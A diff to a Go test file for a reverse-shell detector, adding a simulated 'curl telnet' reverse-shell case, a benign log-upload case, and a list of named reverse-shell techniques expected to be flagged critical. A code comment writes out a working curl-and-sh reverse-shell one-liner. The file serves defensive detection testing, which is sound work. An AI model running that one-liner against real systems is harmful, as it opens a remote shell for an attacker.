@@ -82,6 +82,15 @@ func stories() map[string]*detecttest.Story {
 	s.Connect(t, "203.0.113.7:4445")
 	m["attack-two-telnets"] = s
 
+	// C='curl -Ns telnet://…'; $C </dev/null 2>&1 | sh 2>&1 | $C
+	s, a = web()
+	sh = s.Exec(a, "/usr/bin/dash=sh /tmp/.a")
+	p1, p2 = s.Pipe(), s.Pipe()
+	s.Exec(sh, "/usr/bin/curl -Ns telnet://203.0.113.7:4444", detecttest.Out(p1))
+	s.Exec(sh, "/usr/bin/dash=sh", detecttest.In(p1), detecttest.Out(p2), detecttest.Err(p2))
+	s.Connect(s.Exec(sh, "/usr/bin/curl -Ns telnet://203.0.113.7:4444", detecttest.In(p2)), evil)
+	m["attack-curl-telnet"] = s
+
 	code := func(name, line string, then func(s *detecttest.Story, p *bollwerk.Process)) {
 		s, a := web()
 		sh := s.Exec(a, "/usr/bin/dash=sh -c run")
@@ -249,6 +258,10 @@ func stories() map[string]*detecttest.Story {
 	s.Exec(shell, "/usr/bin/dash=sh", detecttest.In(q1), detecttest.Out(q2))
 	my := s.Exec(shell, "/usr/bin/mysql -h db", detecttest.In(q2))
 	s.Connect(my, "10.2.0.4:3306")
+	// A log is uploaded as it is made.
+	q3, q4 := s.Pipe(), s.Pipe()
+	s.Exec(shell, "/usr/bin/bash -s", detecttest.In(q3), detecttest.Out(s.Pipe()))
+	s.Connect(s.Exec(shell, "/usr/bin/curl -sT - https://logs.example/x", detecttest.In(q4)), "198.51.100.42:443")
 	tar := s.Exec(shell, "/usr/bin/tar c /data", detecttest.Out(q1))
 	_ = tar
 	s.Connect(s.Exec(shell, "/usr/bin/nc -q1 backup 9000", detecttest.In(q1)), "10.2.0.5:9000")
@@ -267,7 +280,7 @@ func TestContract(t *testing.T) {
 		"attack-bind-python":     {Severity: bollwerk.SeverityCritical, Message: "connected to 10.1.2.3:31337"},
 		"attack-python-dup2":     {Severity: bollwerk.SeverityCritical, Mode: "enforce"},
 	}
-	for _, n := range []string{"bash-dev-tcp", "mkfifo-nc", "renamed-relay", "openssl", "two-telnets", "python-pty", "python-file", "perl", "ruby", "php", "node", "node-file", "node-shell-first", "awk", "lua", "nc-e", "ncat-exec", "busybox-nc", "socat-pty", "socat-file", "python-encoded"} {
+	for _, n := range []string{"bash-dev-tcp", "mkfifo-nc", "renamed-relay", "openssl", "two-telnets", "python-pty", "python-file", "perl", "ruby", "php", "node", "node-file", "node-shell-first", "awk", "lua", "nc-e", "ncat-exec", "busybox-nc", "socat-pty", "socat-file", "python-encoded", "curl-telnet"} {
 		want["attack-"+n] = critical
 	}
 	detecttest.Test(t, detecttest.Contract{New: func() detect.Detector { return reverseshell.New(reverseshell.Config{}) }, Want: want})
